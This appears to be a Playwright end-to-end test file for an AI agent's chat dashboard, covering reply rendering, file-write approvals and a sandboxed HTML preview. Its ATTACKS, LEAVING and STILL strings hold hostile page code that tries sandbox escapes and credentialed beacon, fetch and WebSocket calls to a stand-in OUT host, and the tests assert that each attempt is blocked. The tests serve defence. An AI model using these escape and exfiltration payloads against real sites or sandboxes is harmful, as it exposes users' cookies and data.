"""Reading a reply: formulas, diagrams, footnotes, other scripts, previews that can't get out, and files that were written."""

import asyncio
import json
import re
import uuid
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import Page, Request, expect
from tests.e2e.dashboard.chatting import rests, say, width
from tests.e2e.dashboard.conftest import PATIENCE, Board, Complaints
from tests.e2e.dashboard.test_access import found_by_axe

from hermes.testing.scripted_responses import ScriptedResponse, ServedCall

REPLY = r"""Euler[^1] found $e^{i\pi} + 1 = 0$. It costs $5 or $10, and `$x$` is code.

$$\int_0^1 x\,dx = \frac{1}{2}$$

Broken: \(\frac{1}{\).

```mermaid
flowchart LR
  A[Start] --> B[End]
```

```mermaid
flowchart LR
  A[Start --> B
```

```svg
<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30"><rect width="90" height="30"/></svg>
```

```html
<h1>Hello</h1><script>document.body.append("it runs")</script>
```

- عنصر أول
- second

| a | supercalifragilistic | c | d | e | f |
|---|---|---|---|---|---|
| some words | supercalifragilistic | some words | some words | some words | some words |

[^1]: Leonhard *Euler*.
"""
ATTACKS = """<!doctype html><body><form id=f action="OUT/form"></form><link rel=preconnect href=OUT><script>
const said = {};
const XHTML = "http://www.w3.org/1999/xhtml";
const attempt = (name, act) => {
  try { said[name] = String(act()); } catch (error) { said[name] = `refused: ${error.name}`; }
};
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("page", () => parent.document.title);
attempt("top", () => { top.location = "OUT/top"; return "moved"; });
attempt("open", () => window.open("OUT/open"));
attempt("rtc", () => new RTCPeerConnection());
attempt("frame", () => document.createElement("iframe"));
attempt("link", () => document.createElement("link"));
attempt("document", () => document.implementation.createDocument(XHTML, "iframe", null).documentElement);
attempt("prefixed document", () => document.implementation.createDocument(XHTML, "x:iframe").documentElement);
attempt("split writing", () => { document.write("<ifr"); document.write("ame srcdoc='x'></iframe>"); });
attempt("writing elsewhere", () => document.implementation.createHTMLDocument("").write("<ifr"));
attempt("extended frame", () => {
  class Sub extends HTMLIFrameElement {}
  customElements.define("x-sub", Sub, { extends: "iframe" });
  return new Sub();
});
attempt("entity", () => new DOMParser().parseFromString(
  `<!DOCTYPE a [<!ENTITY e "&#60;iframe xmlns='${XHTML}'/>">]><a>&e;</a>`, "text/xml"));
attempt("name that changes", () => {
  const names = ["iframe", "div"];
  return document.createElement({ toString: () => names.pop() }).tagName === "DIV" ? "refused" : "made";
});
attempt("changed built-ins", () => {
  RegExp.prototype.exec = RegExp.prototype.test = () => null;
  RegExp.prototype[Symbol.replace] = String.prototype.replace = function (text) { return text; };
  Reflect.apply = () => null;
  return document.createElement("iframe");
});
const INSIDE = `<x><iframe srcdoc="<script>parent.parent.postMessage({ escaped: 'frame' }, '*')<\\/script>"></iframe>`
  + "<link rel=preconnect href='OUT'><link rel=dns-prefetch href='OUT'></x>";
const parse = (text, type) => document.adoptNode(new DOMParser().parseFromString(text, type).documentElement);
const holder = () => document.body.appendChild(document.createElement("div"));
const WAYS = [
  () => { holder().innerHTML = INSIDE; },
  () => { holder().outerHTML = INSIDE; },
  () => { holder().attachShadow({ mode: "closed" }).innerHTML = INSIDE; },
  () => holder().setHTMLUnsafe(INSIDE),
  () => holder().append(document.createRange().createContextualFragment(INSIDE)),
  () => holder().append(parse(INSIDE, "text/html")),
  () => holder().append(document.importNode(Document.parseHTMLUnsafe(INSIDE).body, true)),
  () => holder().append(parse(`<é:iframe xmlns:é="${XHTML}" srcdoc="x"/>`, "application/xml")),
  () => {
    const other = document.implementation.createHTMLDocument("");
    other.body.innerHTML = INSIDE;
    holder().append(other.body.cloneNode(true));
  },
  () => {
    const template = document.createElement("template");
    template.innerHTML = INSIDE;
    holder().append(template.content);
  },
  () => {
    const box = holder();
    box.contentEditable = "true";
    box.focus();
    document.execCommand("insertHTML", false, INSIDE);
  },
];
for (const way of WAYS) attempt(`way ${WAYS.indexOf(way)}`, () => {
  way();
  return window.length + document.querySelectorAll("link, iframe").length ? "made" : "refused";
});
location.href = "javascript:'<script>parent.postMessage({ escaped: `address` }, `*`)</scr" + "ipt>'";
attempt("worker", () => new Worker("OUT/worker.js"));
attempt("eval", () => eval("1"));
document.body.insertAdjacentHTML("beforeend", "<IFRAME srcdoc='x'></IFRAME><object data='OUT/object'></object>");
attempt("frames", () => window.length);
document.body.insertAdjacentHTML("beforeend", "<img src='OUT/img'><link rel=stylesheet href='OUT/css'>"
  + "<link rel=prefetch href='OUT/prefetch'><video src='OUT/video'></video><img src='OURS/favicon.svg'>");
f.submit();
navigator.sendBeacon("OUT/beacon", "x");
const call = (name, url) => fetch(url, { credentials: "include" }).then(
  () => { said[name] = "answered"; }, () => { said[name] = "refused"; });
const socket = () => new Promise((done) => {
  try { const one = new WebSocket("WS/socket"); one.onopen = () => done("open"); one.onerror = () => done("refused"); }
  catch { done("refused"); }
});
Promise.all([call("fetch", "OUT/fetch"), call("ours", "OURS/api/auth"), socket().then((how) => { said.socket = how; }),
  import("OUT/module.js").then(() => { said.module = "loaded"; }, () => { said.module = "refused"; })])
  .then(() => parent.postMessage(said, "*"));
</script>"""
LEAVING = (
    "url => { location.href = `${url}/moved`; }",
    "url => location.replace(`${url}/moved`)",
    "url => location.reload()",
    "url => navigation.navigate(`${url}/moved`).finished.catch(() => {})",
    "url => { const a = document.createElement('a'); a.href = url; document.body.append(a); a.click(); }",
    "url => { document.head.innerHTML = `<meta http-equiv=refresh content='0;url=${url}/moved'>`; }",
    """url => {
        NavigateEvent.prototype.preventDefault = Event.prototype.preventDefault = () => {};
        Object.defineProperty(NavigationDestination.prototype, "sameDocument", { get: () => true });
        location.href = `${url}/moved`;
    }""",
    "url => { document.open(); location.href = `${url}/moved`; }",
)
_ROUND_TRIP = """() => fetch("/api/auth").then(() => "answered")"""
_PREVIEWED = """async (html) => {
    const { openSandbox } = await import("/static/app/parts/sandbox.js");
    const frame = document.createElement("iframe");
    const said = new Promise((resolve) =>
        addEventListener("message", ({ data }) => data !== "ready" && resolve(data)));
    const ready = openSandbox(frame, { html });
    document.body.append(frame);
    await ready;
    return said;
}"""


@pytest.fixture
def dashboard(shared: Board) -> Board:
    return shared


@pytest.fixture
def page(visit: Page) -> Page:
    return visit


async def test_formulas_diagrams_footnotes_and_previews(
    page: Page, dashboard: Board, complaints: Complaints
) -> None:
    dashboard.says(REPLY)
    await say(page, "show me")
    await rests(page, 1)
    await expect(page.locator("math")).to_have_count(2)
    await expect(page.locator(".formula-problem")).to_contain_text("can't be read")
    await expect(page.locator(".message.assistant")).to_contain_text("$5 or $10")
    await expect(page.locator("code", has_text="$x$")).to_be_visible()
    diagram = page.get_by_role("img", name="Diagram: flowchart LR")
    await expect(diagram).to_be_visible()
    assert await diagram.evaluate("image => image.naturalWidth") > 50
    await expect(page.locator(".artifact-problem")).to_contain_text(
        "can't be drawn: Parse error on line"
    )
    assert await page.locator("ul", has_text="عنصر").get_attribute("dir") == "rtl"
    await page.get_by_role("button", name="Footnote 1", exact=True).click()
    note = page.get_by_role("note", name="Footnote 1")
    await expect(note).to_be_focused()
    await note.get_by_role("button").click()
    mark = page.get_by_role("button", name="Footnote 1", exact=True)
    await expect(mark).to_be_focused()
    html = page.locator(".artifact").last
    await html.get_by_role("button", name="Preview").click()
    shown = page.frame_locator(".artifact-frame").locator("body")
    await expect(shown).to_have_text("Hello")
    complaints.expect("Blocked script execution")  # until somebody wants it to run
    await html.get_by_role("button", name="Run scripts").click()
    await expect(shown).to_contain_text("it runs")
    for theme in ("light", "dark", "contrast"):
        await page.evaluate(
            "async (name) => (await import('/static/app/theme.js')).chooseTheme(name)",
            theme,
        )
        await expect(diagram).to_be_visible()
        assert await found_by_axe(page) == []
    async with page.expect_download() as saving:
        await html.get_by_role("button", name="Download").click()
    assert (await saving.value).suggested_filename == "page.html"
    await page.set_viewport_size({"width": 360, "height": 740})
    assert await width(page) <= 360
    word = page.locator("td", has_text="supercalifragilistic")
    # The word stays in one line.
    assert (
        await word.evaluate(
            """cell => {
                const range = document.createRange();
                range.selectNodeContents(cell);
                return range.getClientRects().length;
            }"""
        )
        == 1
    )
    await html.get_by_role("button", name="Full screen").click()
    whole = page.get_by_role("dialog", name="Page")
    await expect(whole.locator("iframe")).to_be_visible()
    await page.keyboard.press("Escape")


@asynccontextmanager
async def recorder() -> AsyncIterator[tuple[str, list[str]]]:
    """A server that notes what it is asked for."""
    asked: list[str] = []

    async def note(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append("connected")  # says enough, even if nothing follows
        asked.append((await reader.readline()).decode())
        writer.close()

    server = await asyncio.start_server(note, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", asked


async def test_a_preview_reaches_neither_the_page_nor_the_network(
    page: Page, dashboard: Board, complaints: Complaints
) -> None:
    """Everything a hostile page would try, with scripts running."""
    cookies: list[str] = []

    def note(request: Request) -> None:
        if "cookie" in request.headers and "/preview" not in request.url:
            cookies.append(request.url)

    async with recorder() as (outside, asked):
        html = (
            ATTACKS.replace("OUT", outside)
            .replace("WS", outside.replace("http", "ws"))
            .replace("OURS", dashboard.url)
        )
        await page.evaluate("() => import('/static/app/parts/sandbox.js')")
        page.on("request", note)
        said = await asyncio.wait_for(page.evaluate(_PREVIEWED, html), PATIENCE)
        await expect(page.get_by_role("combobox", name="Message")).to_be_visible()
        refused = {name: how for name, how in said.items() if "refused" in how}
        assert {name for name in said if name not in refused} == {"open", "frames"}
        assert (said["open"], said["frames"]) == ("null", "0")
        assert asked == []
        # Chromium connects before it asks the page's policy; so the document itself cancels what would lead elsewhere.
        last = page.frames[-1]
        for leave in LEAVING:
            await last.evaluate(leave, outside)
        await last.evaluate("location.hash = '#within'")
        assert await page.evaluate(_ROUND_TRIP) == "answered"
        assert "localhost" in last.url
        assert last.url.endswith("/preview#within")
        assert asked == []
        assert page.url.startswith(dashboard.url)
        assert not [url for url in cookies if "/api/auth" in url]
    complaints.expect("")  # the browser tells of each refusal


async def test_a_preview_is_shown_even_if_its_own_address_never_answers(
    page: Page, complaints: Complaints
) -> None:
    await page.evaluate("() => import('/static/app/parts/sandbox.js')")
    own = re.compile(r"http://preview-\w+\.localhost")
    async with asyncio.timeout(PATIENCE):
        await page.route(own, lambda _: None)
        said = page.evaluate(
            _PREVIEWED, "<script>parent.postMessage('hi', '*')</script>"
        )
        assert await said == "hi"
    assert page.frames[-1].url.endswith("/preview")
    complaints.expect("")


STILL = """<link rel=preconnect href="OUT"><link rel=stylesheet href="OUT/css"><h1>Still</h1>
<iframe srcdoc="&lt;link rel=preconnect href='OUT'>&lt;img src='OUT/inside'>"></iframe>
<img src="OUT/img" onerror="parent.postMessage('ran', '*')"><style>@import "OUT/import";</style>
<script>parent.postMessage("ran", "*")</script><meta http-equiv=refresh content="0;url=OUT/moved">"""
_STILL = """async (html) => {
    const { showStill } = await import("/static/app/parts/sandbox.js");
    const heard = [];
    addEventListener("message", ({ data }) => heard.push(data));
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const loaded = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
    showStill(frame, html);
    await loaded;
    return heard;
}"""


async def test_a_preview_runs_nothing_unless_it_is_told_to(
    page: Page, complaints: Complaints
) -> None:
    async with recorder() as (outside, asked):
        html = STILL.replace("OUT", outside)
        assert await asyncio.wait_for(page.evaluate(_STILL, html), PATIENCE) == []
        shown = page.frames[1]
        assert len(page.frames) == 2
        # Neither is there to connect ahead, and nothing but our own policy is set.
        assert await shown.locator("link, iframe").count() == 0
        assert await shown.locator("meta[http-equiv]").count() == 2
        assert asked == []
    complaints.expect("")  # the browser tells of each refusal


async def test_scripts_stay_off_in_a_browser_that_cannot_guard_them(
    page: Page, dashboard: Board, complaints: Complaints
) -> None:
    await page.add_init_script("delete window.trustedTypes")
    await page.reload()
    dashboard.says(
        "```html\n<h1>Hello</h1><script>document.body.append('ran')</script>\n```"
    )
    await say(page, "show me")
    await rests(page, 1)
    html = page.locator(".artifact")
    await html.get_by_role("button", name="Preview").click()
    await expect(html.locator(".artifact-scripts")).to_contain_text("Scripts are off")
    await expect(html.get_by_role("button", name="Run scripts")).to_have_count(0)
    await page.evaluate("() => import('/static/app/parts/sandbox.js')")
    await page.evaluate(
        """async () => {
            const { openSandbox } = await import("/static/app/parts/sandbox.js");
            const frame = document.createElement("iframe");
            frame.id = "forced";
            const ready = openSandbox(frame, { html: "<script>document.body.append('ran')</script>" });
            document.body.append(frame);
            await ready;
        }"""
    )
    forced = page.frame_locator("#forced").locator("body")
    await expect(forced).to_contain_text("they don't run")
    complaints.expect("Blocked script execution")


def write(path: str, content: str) -> ScriptedResponse:
    arguments = json.dumps({"path": path, "content": content})
    return ScriptedResponse(calls=(ServedCall("write_file", arguments),))


async def test_what_a_turn_did_and_wrote_is_in_sight(
    page: Page, dashboard: Board
) -> None:
    steps = [
        {"text": "Look around", "status": "done"},
        {"text": "Write the page", "status": "in_progress"},
    ]
    for name in ("one.py", "two.py"):
        (dashboard.hermes.work / name).write_text("x = 1\n")
    looking = [
        ServedCall("read_file", json.dumps({"path": name}))
        for name in ("one.py", "two.py", "one.py")
    ]
    todo = ServedCall("todo", json.dumps({"items": steps}))
    dashboard.says(
        ScriptedResponse(calls=(todo, *looking)),
        write("site/index.html", "<h1>Shop</h1>\n"),
        write("site/long.py", "value = 1\n" * 300),
        "Done.",
    )
    await say(page, "build it")
    asking = page.get_by_role("group", name="Hermes wants to use write_file")
    await expect(asking.locator(".asking-target")).to_have_text("site/index.html")
    await expect(page.locator(".calls summary")).to_have_text("Read 2 files")
    plan = page.locator(".plan")
    await expect(plan).to_contain_text("Write the page")
    await expect(plan).to_contain_text("1 of 2")
    await asking.get_by_role("button", name="Allow once").click()
    await expect(asking.locator(".asking-target")).to_have_text("site/long.py")
    await expect(asking.locator(".asking-target")).to_be_in_viewport()
    await asking.get_by_role("button", name="Allow once").click()
    await rests(page, 1)
    await page.locator(".calls summary").click()
    await expect(page.locator(".calls .tool")).to_have_count(3)
    await page.get_by_role("button", name="changes").click()
    files = page.get_by_role("navigation", name="2 changed files")
    await files.get_by_role("button", name="long.py").click()
    await expect(page.locator(".changes .diff .hl-number").first).to_have_text("1")
    for theme in ("light", "dark", "contrast"):
        await page.evaluate(
            "async (name) => (await import('/static/app/theme.js')).chooseTheme(name)",
            theme,
        )
        assert await found_by_axe(page) == []
    await files.get_by_role("button", name="index.html").click()
    changes = page.get_by_role("dialog", name="Changes of this turn")
    async with page.expect_download() as saving:
        await changes.get_by_role("link", name="Download index.html").click()
    saved = await (await saving.value).path()
    assert saved.read_text() == "<h1>Shop</h1>\n"
    await changes.get_by_role("button", name="Open index.html").click()
    opened = page.get_by_role("dialog", name="site/index.html")
    await opened.get_by_role("button", name="Preview").click()
    frame = page.frame_locator(".artifact-frame")
    await expect(frame.get_by_role("heading", name="Shop")).to_be_visible()


async def test_the_files_of_a_whole_session_are_a_view(
    page: Page, dashboard: Board
) -> None:
    folder = f"files-{uuid.uuid4().hex[:6]}"  # files that are there already are not asked about
    dashboard.says(write(f"{folder}/index.html", "<h1>Shop</h1>\n"), "Made.")
    await say(page, "build it")
    await page.get_by_role("button", name="Allow once").click()
    await rests(page, 1)
    dashboard.says(write(f"{folder}/notes.md", "# Notes\n"), "Noted.")
    await say(page, "take notes")
    await page.get_by_role("button", name="Allow once").click()
    await rests(page, 2)
    await page.get_by_role("button", name="More").click()
    await page.get_by_role("button", name="Session files").click()
    view = page.get_by_role("dialog", name="Session files")
    files = view.get_by_role("navigation", name="2 changed files")
    await expect(view.get_by_role("heading", name="take notes")).to_be_visible()
    await expect(view.locator(".diff")).to_contain_text("# Notes")
    await files.get_by_role("button", name="index.html").click()
    await expect(view.get_by_role("heading", name="build it")).to_be_visible()
    await expect(view.locator(".diff")).to_contain_text("<h1>Shop</h1>")
    assert await found_by_axe(page) == []
    await view.get_by_role("button", name="Open index.html").click()
    await expect(
        page.get_by_role("dialog", name=f"{folder}/index.html")
    ).to_be_visible()


async def test_of_a_long_reply_only_what_is_near_is_drawn(
    page: Page, dashboard: Board
) -> None:
    blocks = [f"Paragraph {number} with *words*.\n\n- item\n" for number in range(900)]
    dashboard.says(ScriptedResponse(text="\n".join(blocks), chunk=4000))
    await say(page, "write a lot")
    await rests(page, 1)
    paragraphs = page.locator(".markdown p")
    first = paragraphs.filter(has_text="Paragraph 0 with")
    last = paragraphs.filter(has_text="Paragraph 899 with")
    await expect(last).to_be_in_viewport()
    drawn = page.locator(".markdown em")
    await expect(first).to_have_count(0)
    assert await drawn.count() < 450
    scroll = page.locator(".scroll")
    for at in (0.5, 0.0):
        await scroll.evaluate(
            "(box, at) => { box.scrollTop = at * box.scrollHeight }", at
        )
        await expect(drawn.first).to_be_attached()
    await expect(first).to_be_in_viewport()
    assert await drawn.count() < 450
    await page.get_by_role("button", name="Latest").click()
    await expect(last).to_be_in_viewport()
